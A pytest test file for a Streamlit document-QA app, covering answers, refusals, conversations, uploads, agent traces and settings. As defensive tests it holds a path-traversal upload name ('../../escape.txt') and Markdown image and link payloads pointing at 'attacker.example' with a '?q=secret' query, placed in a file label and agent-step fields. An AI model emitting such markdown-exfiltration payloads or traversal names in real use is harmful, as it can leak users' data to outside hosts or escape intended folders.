"""The Streamlit page's flows with streamlit.testing.v1.AppTest, on a real index and the real embedded model."""

from __future__ import annotations

import json
import shutil
import threading
import time
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from tests.conftest import ROOT, SMALL_MODEL, XQUAD_DOCS, build_index
from tests.pdfs import make_pdf

APP = str(ROOT / "app.py")
# AppTest reads a label as its Markdown source: a file's label is escaped so that it shows as written (the browser
# draws "[1] Nikola_Tesla.md"), then " › " and the heading the passage sits under.
TESLA_LABEL = "[1] Nikola\\_Tesla.md"


@pytest.fixture(scope="module")
def two_articles(tmp_path_factory: pytest.TempPathFactory, embedder) -> Path:
    """An index of two real articles, built once for this module."""
    root = tmp_path_factory.mktemp("app")
    (root / "docs").mkdir()
    for name in ("Nikola_Tesla.md", "Oxygen.md"):
        shutil.copy(XQUAD_DOCS / name, root / "docs" / name)
    report = build_index(root / "docs", root / "index", embedder)
    assert len(report.added) == 2 and not report.failed
    return root / "index"


@pytest.fixture
def app_env(tmp_path: Path, two_articles: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A fresh copy of that index (tests change it), and the app pointed at it through RAG_INDEX_DIR."""
    shutil.copytree(two_articles, tmp_path / "index")
    monkeypatch.setenv("RAG_INDEX_DIR", str(tmp_path / "index"))
    monkeypatch.setenv("RAG_LLM", "embedded")
    return tmp_path


def start() -> AppTest:
    at = AppTest.from_file(APP, default_timeout=300)
    at.run()
    assert not at.exception, at.exception
    return at


def assistant_messages(at: AppTest) -> list:
    return [m for m in at.chat_message if m.name == "assistant"]


def show_stored_answer(at: AppTest, question: str, answer: dict):  # noqa: ANN201 - the reply's chat message
    """Put a question and a stored answer (``Answer.to_json()`` shape) in the chat, run the page, return the reply."""
    at.session_state["messages"] = [
        {"role": "user", "kind": "question", "content": question},
        {"role": "assistant", "kind": "answer", "content": answer["answer"], "answer": answer, "id": 2},
    ]
    at.run()
    assert not at.exception, at.exception
    return assistant_messages(at)[-1]


def test_ask_streams_an_answer_with_expandable_sources(app_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RAG_EMBEDDED_MODEL", "qwen2.5-coder-1.5b")  # the default: SmolLM2 mostly refuses
    at = start()
    assert sorted(b.label for b in at.button[:2]) == ["What is Nikola Tesla about?", "What is Oxygen about?"]
    at.chat_input[0].set_value("When did Nikola Tesla die?").run()
    assert not at.exception, at.exception
    reply = assistant_messages(at)[-1]
    assert reply.markdown[0].value.strip(), "an answer was written"
    labels = [e.label for e in reply.expander]
    assert labels[0].startswith(TESLA_LABEL), labels
    assert any(":orange-background[" in md.value for md in reply.markdown), "the supporting sentence is highlighted"
    assert not any("Not found in your documents" in w.value for w in reply.warning), "answered, not refused"


def test_out_of_corpus_question_is_refused_and_looks_different(app_env: Path) -> None:
    at = start()
    at.chat_input[0].set_value("Which composer wrote the opera Tosca?").run()
    reply = assistant_messages(at)[-1]
    assert "Not found in your documents" in reply.warning[0].value
    assert any(c.value == "Closest passages" for c in reply.caption)
    assert reply.expander, "the closest passages are shown"


def test_suggested_question_and_new_conversation(app_env: Path) -> None:
    at = start()
    next(b for b in at.button if b.label == "What is Oxygen about?").click().run()
    assert [m.name for m in at.chat_message] == ["user", "assistant"]
    assert at.chat_message[0].markdown[0].value == "What is Oxygen about?"
    next(b for b in at.sidebar.button if "New conversation" in b.label).click().run()
    assert not at.chat_message
    assert any(b.label == "What is Oxygen about?" for b in at.button), "suggestions come back on an empty chat"
    assert any(b.label == "What is Oxygen about?" for b in at.sidebar.button), "the first one is kept in the list"


def test_conversations_are_kept_reopened_renamed_and_deleted(app_env: Path) -> None:
    at = start()
    at.chat_input[0].set_value("When did Nikola Tesla die?").run()
    conversation_id = at.query_params["c"]
    assert [b.label for b in at.sidebar.button if b.key == f"open-{conversation_id}"] == ["When did Nikola Tesla die?"]

    reloaded = start()  # a reload: a new session, nothing in memory, only the saved conversations
    assert not reloaded.chat_message
    reloaded.sidebar.button(key=f"open-{conversation_id}").click().run()
    assert [m.name for m in reloaded.chat_message] == ["user", "assistant"]
    assert reloaded.chat_message[0].markdown[0].value == "When did Nikola Tesla die?"
    assert assistant_messages(reloaded)[0].expander[0].label.startswith(TESLA_LABEL), "its sources came back too"
    reloaded.chat_input[0].set_value("What is the atomic number of oxygen?").run()
    assert reloaded.query_params["c"] == conversation_id, "a follow-up adds to the same conversation"

    reloaded.sidebar.text_input(key=f"name-{conversation_id}").input("Tesla and oxygen").run()
    assert reloaded.sidebar.button(key=f"open-{conversation_id}").label == "Tesla and oxygen"
    reloaded.sidebar.button(key=f"forget-{conversation_id}").click().run()
    assert reloaded.chat_message and reloaded.sidebar.button(key=f"open-{conversation_id}"), "it asks first"
    assert any(m.value.startswith("Delete **Tesla and oxygen** and its answers?") for m in reloaded.sidebar.markdown)
    reloaded.sidebar.button(key=f"forget-no-{conversation_id}").click().run()
    assert reloaded.sidebar.button(key=f"forget-{conversation_id}"), "kept: the question is gone, the menu as it was"
    reloaded.sidebar.button(key=f"forget-{conversation_id}").click().run()
    reloaded.sidebar.button(key=f"forget-yes-{conversation_id}").click().run()
    assert not reloaded.chat_message, "deleting the open conversation empties the chat"
    assert not [b for b in reloaded.sidebar.button if (b.key or "").startswith("open-")]
    assert not (app_env / "conversations.sqlite").read_bytes().count(b"Tesla and oxygen")


def test_settings_apply_to_the_next_question(app_env: Path) -> None:
    at = start()
    at.sidebar.slider(key="top_k").set_value(2).run()
    at.chat_input[0].set_value("When did Nikola Tesla die?").run()
    assert len(assistant_messages(at)[-1].expander) == 2


def test_a_server_that_is_down_shows_an_error_not_a_traceback(app_env: Path) -> None:
    at = start()
    at.sidebar.selectbox(key="backend").set_value("openai").run()
    at.sidebar.text_input(key="llm_url").set_value("http://127.0.0.1:9/v1").run()
    assert any("cannot reach" in e.value for e in at.sidebar.error), "the sidebar shows the server's health"
    at.chat_input[0].set_value("When did Nikola Tesla die?").run()
    assert not at.exception, at.exception
    reply = assistant_messages(at)[-1]
    assert any("The model failed" in e.value and "cannot reach" in e.value for e in reply.error)
    assert reply.expander, "the passages found are still shown"
    at.sidebar.selectbox(key="backend").set_value("embedded").run()
    at.chat_input[0].set_value("When did Nikola Tesla die?").run()
    assert not assistant_messages(at)[-1].error, "the app keeps working"


def test_a_cited_pdf_page_opens_even_when_two_answers_cite_it(
    tmp_path: Path, embedder, monkeypatch: pytest.MonkeyPatch
) -> None:
    docs = tmp_path / "docs"
    docs.mkdir()
    make_pdf(docs / "harbour.pdf", ["Page one is about the river and its bridges.",
                                    "The harbour crane on page two lifts forty tonnes at a time."])
    assert build_index(docs, tmp_path / "index", embedder).added == ["harbour.pdf"]
    monkeypatch.setenv("RAG_INDEX_DIR", str(tmp_path / "index"))
    monkeypatch.setenv("RAG_LLM", "embedded")
    monkeypatch.setenv("RAG_MAX_ANSWER_TOKENS", "32")
    at = start()
    for _ in range(2):
        at.chat_input[0].set_value("How much does the harbour crane lift?").run()
    toggles = [t for t in at.toggle if t.label == "Show page 2"]
    assert len(toggles) == 2, [t.label for t in at.toggle]
    for toggle in toggles:  # the same page bytes twice on one screen: their viewers need their own ids
        toggle.set_value(True)
    at.run()
    assert not at.exception, at.exception
    assert all(t.value for t in at.toggle if t.label == "Show page 2")


def test_library_upload_delete_and_untrusted_names(app_env: Path) -> None:
    at = start()
    assert "2 document(s)" in at.sidebar.caption[0].value
    at.sidebar.file_uploader[0].set_value([
        ("../../escape.txt", b"The harbour master's cat is called Biscuit.", "text/plain"),
        ("notes.md", b"# Notes\n\nThe ferry leaves at seven.", "text/markdown"),
    ]).run()
    assert not at.exception, at.exception
    uploads = app_env / "uploads"
    assert sorted(p.name for p in uploads.iterdir()) == ["escape.txt", "notes.md"]
    assert not (app_env.parent / "escape.txt").exists() and not (ROOT / "escape.txt").exists()
    assert "4 document(s)" in at.sidebar.caption[0].value
    assert any("1 passage · added" in m.value for m in at.sidebar.markdown), "one passage, not '1 chunks'"

    at.sidebar.file_uploader[0].set_value([("notes.md", b"# Other notes\n\nA different file.", "text/markdown")]).run()
    assert sorted(p.name for p in uploads.iterdir()) == ["escape.txt", "notes (2).md", "notes.md"], "no overwrite"

    at.chat_input[0].set_value("What is the harbour master's cat called?").run()
    assert assistant_messages(at)[-1].expander[0].label == "[1] escape.txt"

    assert any(m.value.startswith("Delete **escape.txt**?") for m in at.sidebar.markdown), "it asks first"
    assert "5 document(s)" in at.sidebar.caption[0].value, "nothing is deleted until the question is answered"
    next(b for b in at.sidebar.button if b.key == "delete-escape.txt").click().run()
    assert "4 document(s)" in at.sidebar.caption[0].value
    assert not (uploads / "escape.txt").exists()
    assert all("escape.txt" not in m.value for m in at.sidebar.markdown)


def test_files_dropped_with_a_question_are_in_the_library_the_answer_shows(app_env: Path) -> None:
    at = start()
    assert "2 document(s)" in at.sidebar.caption[0].value
    at.chat_input[0].upload("cats.txt", b"The harbour master's cat is called Biscuit.", "text/plain")
    at.chat_input[0].set_value("What is the harbour master's cat called?").run()
    assert not at.exception, at.exception
    assert "3 document(s)" in at.sidebar.caption[0].value, "the sidebar counts the file dropped with the question"
    assert "your 3 document(s)" in at.caption[0].value
    assert assistant_messages(at)[-1].expander[0].label == "[1] cats.txt"


def test_unsupported_and_broken_uploads_get_a_readable_error(app_env: Path) -> None:
    at = start()
    at.sidebar.file_uploader[0].set_value([("broken-scan_v2.pdf", b"%PDF-1.4 truncated", "application/pdf")]).run()
    assert not at.exception, at.exception
    assert not at.chat_message, "a sidebar upload reports in the sidebar, where it was made, not at the chat's end"
    note = at.sidebar.warning[0].value
    shown = MarkdownIt("commonmark").render(note)  # as the page shows it: the name escaped once, not twice
    assert "broken-scan_v2.pdf" in shown and "truncated" in shown and "\\" not in shown, shown
    assert not (app_env / "uploads" / "broken-scan_v2.pdf").exists(), "a file that failed is not kept"
    assert "2 document(s)" in at.sidebar.caption[0].value


def test_agent_mode_shows_its_steps_and_still_answers(app_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The real embedded model ignores the ReAct format, so this is the path users of the bundled model see."""
    monkeypatch.setenv("RAG_AGENT_MAX_STEPS", "2")
    monkeypatch.setenv("RAG_AGENT_STEP_TOKENS", "48")
    at = start()
    at.toggle(key="agent_mode").set_value(True).run()
    at.chat_input[0].set_value("When did Nikola Tesla die?").run()
    assert not at.exception, at.exception
    reply = assistant_messages(at)[-1]
    assert any(e.label.startswith("Agent trace (") for e in reply.expander)
    assert any(e.label.startswith(TESLA_LABEL) for e in reply.expander)
    if "final_answer" not in next(e.label for e in reply.expander if e.label.startswith("Agent trace")):
        assert any("plain answer from your documents" in c.value for c in reply.caption)


def test_the_configured_api_key_is_never_sent_to_a_url_typed_in_the_sidebar(
    app_env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A local server that records the Authorization header of every request stands in for "anyone's server"."""
    import http.server
    import threading

    seen: list[str] = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
            seen.append(self.headers.get("Authorization", ""))
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.end_headers()
            self.wfile.write(b'{"object": "list", "data": []}')

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002
            return

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        monkeypatch.setenv("RAG_LLM_URL", "http://127.0.0.1:9/v1")
        monkeypatch.setenv("RAG_LLM_API_KEY", "configured-secret-1234")
        at = start()
        at.sidebar.selectbox(key="backend").set_value("openai").run()
        assert not any(t.key == "llm_key" for t in at.sidebar.text_input), "no key asked for the configured server"
        at.sidebar.text_input(key="llm_url").set_value(f"http://127.0.0.1:{server.server_port}/v1").run()
        assert seen, "the health check reached the typed server"
        assert not any("configured-secret-1234" in h for h in seen), seen
        at.sidebar.text_input(key="llm_key").set_value("typed-key").run()
        assert seen[-1] == "Bearer typed-key", "a key typed for that server is the one sent to it"
    finally:
        server.shutdown()


def test_the_sidebar_picks_the_embedded_model(app_env: Path) -> None:
    at = start()
    picker = at.sidebar.selectbox(key="embedded_model")
    assert picker.options == ["Qwen2.5-Coder 1.5B (default, better answers)", "SmolLM2 135M (fast, toy quality)"]
    assert "SmolLM2-135M-Instruct" in at.caption[0].value  # the tests' RAG_EMBEDDED_MODEL
    picker.set_value("qwen2.5-coder-1.5b").run()
    assert not at.exception, at.exception
    assert "qwen2.5-coder-1.5b-instruct-q4_k_m" in at.caption[0].value, "the next question goes to the 1.5B model"


def test_a_third_backend_shows_in_the_settings_with_no_change_to_the_page(app_env: Path, echo_backend) -> None:
    """A backend file is all a new backend needs: the sidebar lists it by its title and asks for a URL, model and
    key when it is ``remote`` (``echo_backend``, tests/fixtures_llm.py)."""
    at = start()
    picker = at.sidebar.selectbox(key="backend")
    assert picker.options == ["Embedded (in-process)", "vLLM server (OpenAI-compatible)", "Echo server"]
    picker.set_value("echo").run()
    assert not at.exception, at.exception
    assert [t.label for t in at.sidebar.text_input][:2] == ["Server address", "Model name on the server"]
    assert not [s for s in at.sidebar.selectbox if s.key == "embedded_model"], "no bundled-model picker"
    assert any("echo server ready" in s.value for s in at.sidebar.success)


def test_an_answer_the_sources_do_not_support_carries_a_visible_note(app_env: Path) -> None:
    """A stored answer that failed the groundedness check (which models produce only now and then, so the message
    is set directly): the page must say what was not found, above the passages."""
    at = start()
    answer = {"answer": "Tesla died in 1944 [1].", "refused": False, "verified": False, "unverified": ["1944"],
              "citations": [{"n": 1, "source": "Nikola_Tesla.md", "page": None, "cited": True,
                             "text": "Tesla died on 7 January 1943.", "support": "Tesla died on 7 January 1943."}]}
    reply = show_stored_answer(at, "When did Tesla die?", answer)
    assert [w.value for w in reply.warning if "Not found in your sources" in w.value], "the note is shown"
    assert "1944" in reply.warning[0].value
    verified = dict(answer, verified=True, unverified=[])
    at.session_state["messages"] = [at.session_state["messages"][0], {**at.session_state["messages"][1], "answer": verified}]
    at.run()
    assert not assistant_messages(at)[-1].warning, "a verified answer carries no note"


def test_a_withheld_answer_shows_why_and_what_the_model_wrote(app_env: Path) -> None:
    """With "Withhold unconfirmed answers" on, an answer that failed a check is not shown as the reply: the note
    says it is not confirmed, quotes the model's words and the reason. Set directly, as above."""
    at = start()
    toggle = at.sidebar.toggle(key="withhold")
    assert toggle.value is False, "off by default: flagged answers are shown under a note"
    toggle.set_value(True).run()
    assert not at.exception, at.exception
    answer = {"answer": "I could not confirm an answer in your documents.", "refused": True, "refused_by": "check",
              "candidate": "Ward [1].", "verified": False, "unverified": [],
              "checks": ["the model was unsure of its answer (it gave “Ward” a probability of 0.21)"],
              "citations": [{"n": 1, "source": "Nikola_Tesla.md", "page": None, "cited": False,
                             "text": "Tesla died on 7 January 1943.", "support": "Tesla died on 7 January 1943."}]}
    reply = show_stored_answer(at, "Who fumbled?", answer)
    note = reply.warning[0].value
    assert note.startswith("**Not confirmed by your documents.**") and "Ward" in note, note
    assert "probability of 0.21" in note, note
    assert not any("Ward" in md.value for md in reply.markdown), "the model's words appear only inside the note"
    assert "Closest passages" in [c.value for c in reply.caption]


def test_the_page_warms_the_model_up_in_the_background(app_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What warming does is tested in tests/test_llm_embedded.py; here, that the page starts it once, off the
    script's thread (warm_up is replaced by a recorder for that reason)."""
    import ui.resources

    calls: list[tuple[str, str]] = []
    monkeypatch.setattr(ui.resources, "warm_up",
                        lambda llm: calls.append((llm.backend, threading.current_thread().name)))
    ui.resources.warmed_llm.clear()
    at = start()
    at.run()  # a rerun does not start it again
    for _ in range(100):
        if calls:
            break
        time.sleep(0.05)
    assert calls == [("embedded", f"warm-{SMALL_MODEL}")], calls


def test_an_agent_trace_and_a_crafted_file_name_render_as_text(app_env: Path) -> None:
    """Everything in an agent step is model-written (an invalid action is kept as the model wrote it), and a file's
    label comes from a folder tree someone else made: neither may render as an image or a link. Set directly: a
    real model cannot be made to write this action on cue."""
    at = start()
    label = "![x](https://attacker.example/a.png).md"
    answer = {"answer": "Tesla died in 1943 [1].", "refused": False, "verified": True, "unverified": [],
              "stopped_reason": "final_answer",
              "citations": [{"n": 1, "source": label, "page": None, "cited": True,
                             "text": "Tesla died on 7 January 1943.", "support": "Tesla died on 7 January 1943."}],
              "steps": [{"thought": "See [this](https://attacker.example/?q=secret)",
                         "action": "![x](https://attacker.example/?q=secret)", "input": "Tesla",
                         "observation": "Error: unknown tool"}]}
    reply = show_stored_answer(at, "When did Tesla die?", answer)
    rendered = [md.value for md in reply.markdown] + [e.label for e in reply.expander]
    assert any("attacker" in text for text in rendered), rendered  # the step and the label are on the page
    for text in rendered:
        assert "](" not in text, f"an image or link would render: {text!r}"


def test_passages_of_one_file_are_told_apart_by_their_heading_on_the_page_and_in_the_export(app_env: Path) -> None:
    """Two passages of one guide used to read "[1] guide.md", "[2] guide.md": the label adds the heading each sits
    under (and the page of a PDF), the same rule the export and ``rag.search`` use."""
    from rag.conversations.export import to_markdown
    from rag.conversations.store import Conversation

    at = start()
    answer = {"answer": "Green tea steeps 2 minutes [1]; black tea 4 [2].", "refused": False, "verified": True,
              "citations": [{"n": 1, "source": "guide.md", "section": "Green tea", "cited": True,
                             "text": "Steep green tea for 2 minutes.", "support": "Steep green tea for 2 minutes."},
                            {"n": 2, "source": "guide.md", "section": "Black tea", "cited": True,
                             "text": "Steep black tea for 4 minutes.", "support": "Steep black tea for 4 minutes."},
                            {"n": 3, "source": "handbook.pdf", "page": 2, "kind": "pdf", "section": "Opening hours",
                             "cited": False, "text": "Open 10:00 to 17:00.", "support": ""}]}
    reply = show_stored_answer(at, "How long do green and black tea steep?", answer)
    assert [e.label for e in reply.expander] == ["[1] guide.md › Green tea", "[2] guide.md › Black tea",
                                                 "[3] handbook.pdf, page 2 › Opening hours"]
    exported = to_markdown(Conversation(title="Tea", messages=at.session_state["messages"]))
    assert "guide.md › Green tea" in exported and "guide.md › Black tea" in exported
    assert "handbook.pdf, page 2 › Opening hours" in exported
    from rag.answer.result import source_label

    assert source_label("tea-brewing-guide.md", section="Tea brewing guide") == "tea-brewing-guide.md", \
        "a heading that only repeats the file's name adds nothing"


def test_the_page_leads_with_the_documents_and_keeps_its_choices_across_a_reload(app_env: Path) -> None:
    at = start()
    assert at.sidebar.header[0].value == "Your documents", "the reader's documents come first"
    assert [e.label for e in at.sidebar.expander] == ["Model and search settings"], "settings sit in one section"
    at.sidebar.slider(key="top_k").set_value(3).run()
    at.sidebar.selectbox(key="mode").set_value("keyword").run()
    at.toggle(key="agent_mode").set_value(True).run()
    assert not at.exception, at.exception

    reloaded = start()  # a new session: only what was kept on disk
    assert reloaded.sidebar.slider(key="top_k").value == 3
    assert reloaded.sidebar.selectbox(key="mode").value == "keyword"
    assert reloaded.toggle(key="agent_mode").value is True
    kept = json.loads((app_env / "page-settings.json").read_text())
    assert kept["top_k"] == 3 and not any("api_key" in name for name in kept), "no API key is ever written down"


def test_suggestions_come_from_the_readers_own_documents_first(app_env: Path) -> None:
    at = start()
    time.sleep(1.1)  # the index keeps the second a document was added: this one comes after the two others
    at.sidebar.file_uploader[0].set_value([("garden-club.md", b"# Garden club\n\nWe meet on Tuesdays.", "text/markdown")]).run()
    assert not at.exception, at.exception
    assert "garden\\-club.md: added" in at.sidebar.success[0].value, "the result shows where the files were added"
    assert at.button[0].label == "What is garden club about?", [b.label for b in at.button]


def test_the_answer_says_what_is_happening_and_which_passages_are_read(app_env: Path) -> None:
    at = start()
    at.chat_input[0].set_value("When did Nikola Tesla die?").run()
    assert not at.exception, at.exception
    reply = assistant_messages(at)[-1]
    status = next(e for e in reply.status if e.label.startswith("Answered in "))
    assert status.label.endswith(" s"), status.label
    assert any(c.value.startswith("Nikola\\_Tesla.md") for c in status.caption), "the passages read are listed"

    at.chat_input[0].set_value("Which composer wrote the opera Tosca?").run()
    refused = assistant_messages(at)[-1]
    assert any(e.label == "No passage of your documents holds an answer" for e in refused.status)


def test_an_answer_begun_ahead_is_read_in_order_fails_where_it_is_read_and_ends_when_closed() -> None:
    """``ui.chat.Ahead``: the page begins an answer in a worker thread, then reads its events."""
    from ui.chat import Ahead

    ahead = Ahead(iter(range(5)))
    assert ahead.ready(10) and ahead.ready(10), "waiting for the first event keeps it for the reader"
    assert list(ahead) == [0, 1, 2, 3, 4]

    def failing():
        yield "Retrieved"
        raise RuntimeError("the model failed")

    read: list[str] = []
    with pytest.raises(RuntimeError, match="the model failed"):
        read.extend(Ahead(failing()))
    assert read == ["Retrieved"], "the error comes after what was made before it"

    closed = threading.Event()

    def endless():
        try:
            while True:
                yield "Delta"
                time.sleep(0.01)
        finally:
            closed.set()  # the answer's own finally: the model is freed

    stopped = Ahead(endless())
    assert stopped.ready(10)
    stopped.close()  # the reader stopped the answer
    assert closed.wait(10), "the worker ended the answer"
